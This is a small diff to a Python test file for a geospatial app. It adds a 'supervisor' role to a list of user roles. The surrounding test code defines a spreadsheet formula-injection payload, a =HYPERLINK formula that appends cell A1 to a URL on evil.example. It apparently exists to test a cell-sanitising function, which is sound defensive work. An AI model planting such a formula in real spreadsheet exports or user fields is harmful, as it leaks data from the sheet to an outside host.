@@ -25,7 +25,7 @@ from geo.spreadsheet import safe_cell
 from tests.conftest import auth, sector_surface_points
 from tests.test_boundary_import import sector_layer
 
-ROLES = ("admin", "planner", "patrol", "grid_worker", "official")
+ROLES = ("admin", "planner", "patrol", "grid_worker", "official", "supervisor")
 NON_ADMINS = ROLES[1:]
 #: a formula a spreadsheet would run, the way an attacker would name a unit
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看 click")'
